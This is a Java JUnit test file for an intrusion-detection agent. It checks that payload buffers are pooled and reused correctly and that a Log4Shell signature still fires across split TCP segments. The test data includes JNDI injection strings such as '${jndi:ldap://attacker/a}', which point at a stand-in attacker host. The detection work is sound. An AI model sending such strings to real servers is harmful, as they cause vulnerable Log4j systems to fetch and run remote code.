package io.netwatch.agent.inspect.signature;

import static org.junit.jupiter.api.Assertions.*;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class PayloadBuffersTest {
    private static final RuleSet BUNDLED = Signatures.bundled().current();
    private static final int LOG4SHELL = 9100001;

    @Test
    void anArrayGivenBackIsTheNextOneTakenOfItsSize() {
        PayloadBuffers buffers = new PayloadBuffers(4096);
        byte[] small = buffers.take(100);
        byte[] full = buffers.take(PayloadBuffers.SMALL + 1);
        assertEquals(PayloadBuffers.SMALL, small.length);
        assertEquals(4096, full.length);
        buffers.give(small);
        buffers.give(full);
        assertSame(small, buffers.take(1));
        assertSame(full, buffers.take(4096));
        buffers.give(new byte[77]);
        assertEquals(0, buffers.spare(), "arrays of other sizes are not kept");
    }

    @Test
    void atMostMaxSpareArraysWaitPerSize() {
        PayloadBuffers buffers = new PayloadBuffers(4096);
        for (int i = 0; i < PayloadBuffers.MAX_SPARE + 100; i++) {
            buffers.give(new byte[PayloadBuffers.SMALL]);
            buffers.give(new byte[4096]);
        }
        assertEquals(2 * PayloadBuffers.MAX_SPARE, buffers.spare());
    }

    @Test
    void aFlowsKeptBytesAreItsOwnWhileOtherFlowsReuseArrays() {
        // A rule whose content spans two segments is verified on the bytes kept from the first:
        // flows that end in between and hand their arrays to new flows must not touch them.
        PayloadBuffers buffers = new PayloadBuffers(Signatures.DEFAULT_PAYLOAD_DEPTH);
        List<Integer> fired = new ArrayList<>();
        FlowSignatures victim = new FlowSignatures(BUNDLED, Signatures.DEFAULT_PAYLOAD_DEPTH, true, buffers);
        send(victim, "GET /?q=${jn", fired);
        for (int i = 0; i < 50; i++) {
            FlowSignatures other = new FlowSignatures(BUNDLED, Signatures.DEFAULT_PAYLOAD_DEPTH, true, buffers);
            byte[] junk = new byte[700 + i * 90];
            Arrays.fill(junk, (byte) 'x');
            send(other, new String(junk, StandardCharsets.ISO_8859_1), new ArrayList<>());
            other.release();
        }
        assertTrue(buffers.spare() > 0, "the ended flows gave their arrays back");
        for (int i = 0; i < 5; i++) {
            // New flows take those arrays and write into them.
            FlowSignatures taker = new FlowSignatures(BUNDLED, Signatures.DEFAULT_PAYLOAD_DEPTH, true, buffers);
            send(taker, "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz".repeat(20), new ArrayList<>());
        }
        send(victim, "di:ldap://attacker/a} HTTP/1.1\r\n", fired);
        assertEquals(List.of(LOG4SHELL), fired);
    }

    @Test
    void aDirectionPastItsDepthGivesItsArrayBackAndMatchesNothingMore() {
        PayloadBuffers buffers = new PayloadBuffers(1024);
        FlowSignatures f = new FlowSignatures(BUNDLED, 1024, true, buffers);
        List<Integer> fired = new ArrayList<>();
        send(f, "a".repeat(1024), fired);
        assertTrue(f.payloadDone(true));
        assertEquals(1, buffers.spare(), "the full array is back once the depth is reached");
        send(f, "${jndi:ldap://x}", fired);
        assertEquals(List.of(), fired, "bytes past the depth are not matched");
    }

    private static void send(FlowSignatures f, String text, List<Integer> fired) {
        byte[] b = text.getBytes(StandardCharsets.ISO_8859_1);
        MatchContext ctx = new MatchContext();
        ctx.tcp = true;
        ctx.toServer = true;
        ctx.appProto = "http";
        ctx.ipVersion = 4;
        f.stream(ByteBuffer.wrap(b), 0, b.length, ctx, (rule, buffer) -> { fired.add(rule.sid()); return true; });
    }
}
